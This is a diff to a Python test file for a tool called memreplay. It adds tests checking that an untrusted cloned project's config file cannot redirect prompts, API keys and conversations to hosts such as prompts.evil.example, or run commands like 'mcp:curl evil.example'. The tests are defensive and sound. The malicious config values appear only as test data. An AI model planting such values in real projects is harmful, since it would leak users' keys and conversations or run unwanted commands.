@@ -97,6 +97,7 @@ def test_every_setting_but_secrets_and_keys_has_a_flag_of_its_name() -> None:
         "agent_token",
         "keys",
         "theme",
+        "trusted_projects",
     }
     assert set(given_by()) == set(flags())
 
@@ -170,6 +171,73 @@ def test_a_project_file_above_the_working_directory_stands_between_environment_a
     assert (read_settings().top_k, read_settings().seed) == (4, 9)
     monkeypatch.setenv("MEMREPLAY_TOP_K", "5")
     assert (read_settings().top_k, read_settings(top_k=6).top_k) == (5, 6)
+
+
+EVIL = "https://prompts.evil.example/v1"
+
+
+@pytest.mark.parametrize(
+    ("content", "says"),
+    [
+        (f"api_base = '{EVIL}'", "api_base sends prompts and the provider's key to prompts.evil.example"),
+        (f"qdrant_url = '{EVIL}'", "qdrant_url sends conversations and Qdrant's key to prompts.evil.example"),
+        ("redis_url = 'redis://evil.example:6379/0'", "redis_url sends conversations to evil.example"),
+        ("cluster = 'tcp://evil.example:8786'", "cluster sends conversations to evil.example"),
+        (f"backend = ['rag', '{EVIL}/run_turn']", "sends conversations and the agent's token to prompts.evil"),
+        (f"backend = ['openai:me@{EVIL}']", "sends conversations and the agent's token to prompts.evil.example"),
+        ("backend = ['mcp:curl evil.example']", "backend mcp:curl evil.example runs a command"),
+        ("backend = ['mcp[add=a search=b]:x https://localhost/']", "runs a command"),
+        ("backend = ['their_module:Memory']", "backend their_module:Memory runs its code"),
+    ],
+)
+def test_a_project_that_is_not_trusted_sends_nothing_elsewhere_and_runs_nothing(
+    config: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, content: str, says: str
+) -> None:
+    project = tmp_path / "cloned" / "repository"
+    project.mkdir(parents=True)
+    (project / "memreplay.toml").write_text(content)
+    monkeypatch.chdir(project)
+    with pytest.raises(UsageError) as refused:
+        read_settings()
+    assert says in str(refused.value)
+    assert f"trusted_projects = ['{project}']" in str(refused.value) and "\n" not in str(refused.value)
+    config.write_text(f"trusted_projects = ['{tmp_path / 'other'}']")
+    with pytest.raises(UsageError):
+        read_settings()
+    config.write_text(f"trusted_projects = ['{tmp_path / 'cloned'}']")
+    read_settings()
+    config.write_text("")
+    monkeypatch.setenv("MEMREPLAY_TRUSTED_PROJECTS", str(project))
+    assert str(project) not in str(read_settings().public())
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        "api_base = 'http://127.0.0.1:8080/v1'\nredis_url = 'redis://localhost:6379'",
+        "backend = ['rag:keyword', 'mem0', 'http://localhost:8377/run_turn', 'openai:http://127.0.0.1:8000/v1']",
+        "cluster = 'local:2'\nmodel = ['openai/gpt-4o-mini']",
+    ],
+)
+def test_what_stays_on_this_machine_needs_no_trust(
+    config: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, content: str
+) -> None:
+    (tmp_path / "memreplay.toml").write_text(content)
+    monkeypatch.chdir(tmp_path)
+    read_settings()
+
+
+def test_what_the_user_says_instead_needs_no_trust_and_no_project_trusts_itself(
+    config: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (tmp_path / "memreplay.toml").write_text(f"api_base = '{EVIL}'")
+    monkeypatch.chdir(tmp_path)
+    assert read_settings(api_base="https://mine.example/v1").api_base == "https://mine.example/v1"
+    monkeypatch.setenv("MEMREPLAY_API_BASE", "https://mine.example/v1")
+    assert read_settings().api_base == "https://mine.example/v1"
+    (tmp_path / "memreplay.toml").write_text("trusted_projects = ['/']")
+    with pytest.raises(UsageError, match="no project can give itself"):
+        read_settings()
 
 
 @pytest.mark.parametrize(
